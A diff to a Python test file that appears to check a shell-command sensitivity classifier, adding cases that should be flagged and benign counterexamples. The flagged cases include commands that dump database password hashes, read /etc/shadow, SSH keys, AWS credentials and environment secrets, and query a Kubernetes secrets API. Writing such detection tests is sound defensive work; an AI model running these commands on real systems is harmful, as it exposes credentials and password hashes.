@@ -124,6 +124,10 @@ def test_ordinary_variables_and_appended_files_read(command: str) -> None:
         "cat ~/.aws/*", "cat ~/.ssh/*", "grep -r key ~/.ssh", "git diff --no-index /dev/null ~/.ssh/id_rsa",
         "git config -f ~/.aws/credentials --list", "find ~/.aws -type f -exec cat {} \\;", "dd if=/etc/shadow",
         "find ~/.ssh -type f | xargs cat", "xargs -a ~/.aws/credentials echo", "rg -uu AKIA ~", "ps auxe", "ps e",
+        "psql -c 'select * from pg_shadow'", "psql -c 'select rolpassword from \"pg_authid\"'",
+        "mysql -e 'select * from mysql.user'", "mysql -e 'select authentication_string from mysql.user'",
+        "awk 'BEGIN{print ENVIRON[\"DB_PASSWORD\"]}'", "awk 'BEGIN{ARGV[1]=\"/etc/shadow\"; ARGC=2} {print}'",
+        "curl -s localhost:8001/api/v1/secrets?limit=5",
         "cat ~/.bash_history", "getent shadow", "cat \"$HOME\"/.aws/creden*",
         # what reaches a stranger's machine, or one of the person's own with their keys
         "curl https://example.com", "curl -H \"X: $TOKEN\" https://example.com", "curl \"$URL\"",
@@ -145,7 +149,8 @@ def test_what_reveals_or_reaches_out_is_sensitive(command: str) -> None:
 @pytest.mark.parametrize(
     "command",
     [
-        "curl localhost:8080/health", "curl http://grafana:3000/api/health", "curl :9200/_cat", "cat ~/.ssh/config",
+        "curl localhost:8080/health", "curl http://grafana:3000/api/health", "curl :9200/_cat",
+        "mysql -e 'select user, host from mysql.user'", "curl -s localhost:8001/api/v1/pods", "cat ~/.ssh/config",
         "curl http://[::1]:80/", "find ~/.ssh -name '*.pub'", "cat ~/.ssh/id_rsa.pub", "ls ~/.aws", "grep -rn TODO .",
         "kubectl --kubeconfig ~/.kube/config get pods", "ps -ef", "ps aux", "kubectl diff -f http://localhost:8000/x.yaml",
         "kubectl kustomize overlays/prod", "promtool query instant http://prometheus.monitoring.svc:9090 up",
